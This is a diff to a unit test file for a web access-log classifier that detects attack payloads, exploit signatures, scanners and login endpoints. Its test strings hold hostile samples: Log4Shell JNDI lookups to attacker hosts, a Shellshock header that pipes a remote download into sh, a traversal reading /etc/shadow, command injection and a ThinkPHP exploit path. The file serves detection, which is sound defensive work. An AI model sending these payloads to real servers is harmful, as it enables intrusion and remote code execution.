@@ -1,6 +1,25 @@
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { classifyPath, mayHoldPayload, payloadKind, PATH_PAYLOAD, PATH_SENSITIVE, PATH_STATIC, PATH_WELL_KNOWN } from '../../src/features/classify.js';
+import {
+  AUTH_TARGETS,
+  classifyHeader,
+  classifyPath,
+  classifyQuery,
+  EXPLOIT_SIGNATURES,
+  mayHoldPayload,
+  PATH_AUTH_FORM,
+  PATH_AUTH_TOKEN,
+  PATH_EXPLOIT,
+  PATH_PAYLOAD,
+  PATH_SCANNER,
+  PATH_SENSITIVE,
+  PATH_STATIC,
+  PATH_WELL_KNOWN,
+  payloadKind,
+  SCANNER_MARKS,
+  signaturesIn,
+  unescapeLogged,
+} from '../../src/features/classify.js';
 
 test('attack payloads are recognised in paths and queries, encoded once or twice', () => {
   const attacks: Array<[string, string]> = [
@@ -16,7 +35,6 @@ test('attack payloads are recognised in paths and queries, encoded once or twice
     ['?host=127.0.0.1%3Bcat%20/etc/shadow', 'path traversal'],
     ['?date=5%7Cid', 'command injection'],
     ['?x=$%7Bjndi:ldap://attacker.example/a%7D', 'command injection'],
-    ['/index.php?s=/index/think/app/invokefunction&function=call_user_func_array', 'exploit'],
     ['?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fexample.com%2F%7D', 'command injection'],
     ['?content=%3C?php%20phpinfo();?%3E', 'exploit'],
     ['http://proxy-check.example:80/ip4.php', 'exploit'],
@@ -35,20 +53,24 @@ test('attack payloads are recognised in paths and queries, encoded once or twice
     '?price=$12',
     '?filter={size:large}',
     '?next=http://www.example.org/',
+    '?option=com_content&view=article&id=49&Itemid=55',
+    '?page=2&id=7',
+    '?ref=home&ls=1',
   ];
   for (const text of benign) assert.is(payloadKind(text), null, text);
 });
 
-test('a query without any payload character needs no closer look', () => {
+test('a query without any payload character needs no closer look for payloads (signatures are checked apart)', () => {
+  assert.ok(classifyQuery('?s=/index/think/app/invokefunction&function=call_user_func_array') & PATH_EXPLOIT);
   const yes = ["?id=1'", '?q=%3C', '?a=(1)', '?f=../x', '?x=${y}', '?a=1;b', '?a=`id`'];
-  const no = ['?q=alpine', '?since=1700000000&page=2', '?a=b.c'];
+  const no = ['?q=alpine', '?since=1700000000&page=2', '?a=b.c', '?s=/index/think/app/invokefunction'];
   for (const q of yes) assert.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
   for (const q of no) assert.not.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
 });
 
 test('paths: static assets, sensitive places, payloads, and the files clients ask for on their own', () => {
   assert.is(classifyPath('/static/site.css'), PATH_STATIC);
-  assert.is(classifyPath('/wp-login.php'), PATH_SENSITIVE);
+  assert.is(classifyPath('/wp-login.php'), PATH_SENSITIVE | PATH_AUTH_FORM);
   assert.ok(classifyPath('/cgi-bin/../../bin/sh') & PATH_PAYLOAD);
   for (const p of [
     '/apple-touch-icon.png',
@@ -60,6 +82,94 @@ test('paths: static assets, sensitive places, payloads, and the files clients as
   ])
     assert.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
   for (const p of ['/icons/apple.png', '/robots.txt.bak', '/wp-admin/favicon.ico']) assert.not.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
+});
+
+/** Requests and headers of ordinary sites: none may carry a signature or a scanner's mark. */
+const ORDINARY_TARGETS = [
+  '/',
+  '/index.php?option=com_content&view=article&id=49&Itemid=55',
+  '/wp-admin/post.php?post=123&action=edit',
+  '/wp-admin/admin-ajax.php',
+  '/search?q=rock+%26+roll',
+  '/search?q=O%27Brien',
+  '/products/42?color=red&size=m',
+  '/remote.php/dav/files/alice/Documents/Report%202026.odt',
+  '/ocs/v2.php/apps/notifications/api/v2/notifications?format=json',
+  '/graphql',
+  '/api/v1/orders?since=2026-12-07T10:00:00Z',
+  '/wiki/%D0%9F%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0_%D0%B2_%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B5_%D0%B8_%D0%9F%D0%BE%D0%B4%D0%BC%D0%BE%D1%81%D0%BA%D0%BE%D0%B2%D1%8C%D0%B5_%D0%BD%D0%B0_%D0%BD%D0%B5%D0%B4%D0%B5%D0%BB%D1%8E',
+  '/contact?message=hello%0D%0Aworld',
+  '/misc/nmh//%22file://$file/%22',
+  '/blog/2019/10/the-shell-script-guide',
+  '/docs/bash-tutorial',
+];
+const ORDINARY_HEADERS = [
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+  'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
+  'GitHub-Hookshot/a1b2c3d',
+  'Mozilla/5.0 (Linux) mirall/3.10.1 (Nextcloud, ubuntu-6.5.0 ClientArchitecture: x86_64 OsArchitecture: x86_64)',
+  'curl/8.5.0',
+  'python-requests/2.31.0',
+  'https://www.example.org/search?q=%22exact+phrase%22',
+  'https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web',
+  'https://shop.example.org/cart?items={"a":1}',
+];
+
+test('every exploit signature and scanner mark fires on its sample, in a request and (unless target-only) in a header', () => {
+  for (const s of [...EXPLOIT_SIGNATURES, ...SCANNER_MARKS]) {
+    assert.ok(signaturesIn(s.sample, 'target').includes(s.name), `${s.name}: ${s.sample}`);
+    if (!s.targetOnly) assert.ok(signaturesIn(s.sample, 'header').includes(s.name), `${s.name} in a header`);
+    const q = s.sample.indexOf('?');
+    const flags = q > 0 ? classifyPath(s.sample.slice(0, q)) | classifyQuery(s.sample.slice(q)) : classifyPath(s.sample);
+    assert.ok(flags & (PATH_EXPLOIT | PATH_SCANNER), `classified: ${s.name}`);
+  }
+});
+
+test('ordinary requests and headers carry no signature', () => {
+  for (const t of ORDINARY_TARGETS) assert.equal(signaturesIn(t, 'target'), [], t);
+  for (const h of ORDINARY_HEADERS) assert.is(classifyHeader(h), 0, h);
+});
+
+test('exploits in headers: JNDI and Shellshock in a user agent or referer, escaped as Apache and nginx write them', () => {
+  assert.is(classifyHeader('${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/abc}'), PATH_EXPLOIT);
+  assert.is(classifyHeader('${jndi:${lower:l}${lower:d}a${lower:p}://world80.example/a}'), PATH_EXPLOIT);
+  assert.is(classifyHeader('() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x | sh\\"'), PATH_EXPLOIT);
+  assert.is(classifyHeader('\\x24{jndi:dns://x.example/a}'), PATH_EXPLOIT, 'nginx escapes $ as \\x24 only in odd setups; decoded alike');
+  assert.is(classifyHeader('sqlmap/1.7.2#stable (https://sqlmap.org)'), PATH_SCANNER);
+  assert.is(unescapeLogged('a \\"b\\" \\x41'), 'a "b" A');
+  // A referer is an absolute URL: the open-proxy signature is for request targets only.
+  assert.is(classifyHeader('http://www.example.org/page'), 0);
+  assert.ok(classifyPath('maila.microsoft.com:25') & PATH_EXPLOIT);
+});
+
+test('authentication targets: login forms and token endpoints, by data', () => {
+  assert.ok(AUTH_TARGETS.length > 10);
+  assert.ok(classifyPath('/wp-login.php') & PATH_AUTH_FORM);
+  assert.ok(classifyPath('/xmlrpc.php') & PATH_AUTH_FORM);
+  assert.ok(classifyPath('//administrator/index.php') & PATH_AUTH_FORM);
+  assert.ok(classifyPath('/api/auth/refresh') & PATH_AUTH_TOKEN);
+  assert.ok(classifyPath('/oauth/token') & PATH_AUTH_TOKEN);
+  assert.not.ok(classifyPath('/wp-admin/admin-ajax.php') & (PATH_AUTH_FORM | PATH_AUTH_TOKEN));
+  assert.not.ok(classifyPath('/author/alice') & (PATH_AUTH_FORM | PATH_AUTH_TOKEN));
+  assert.ok(classifyPath('/account/login', ['/account/']) & PATH_AUTH_FORM);
+});
+
+test('a script the site is asked for is a sensitive place (failing there is probing)', () => {
+  assert.ok(classifyPath('/wp-inc.php') & PATH_SENSITIVE);
+  assert.ok(classifyPath('/cgi-bin/test.cgi') & PATH_SENSITIVE);
+  assert.not.ok(classifyPath('/blog/post-1') & PATH_SENSITIVE);
+});
+
+test('the payload check on bytes and on text agree, so every log format gets the same answer', () => {
+  const samples = [...ORDINARY_TARGETS, ...EXPLOIT_SIGNATURES.map((s) => s.sample), "?id=1'", '?q=a+and+1=1', '?a=1&id=2', '?x=$%7Bjndi:a%7D'];
+  for (const t of samples) {
+    const q = t.indexOf('?');
+    if (q < 0) continue;
+    const query = t.slice(q);
+    const viaBytes = mayHoldPayload(Buffer.from(query, 'latin1'), 0, query.length) ? payloadKind(query) : null;
+    assert.is(viaBytes, payloadKind(query), query);
+  }
 });
 
 test.run();
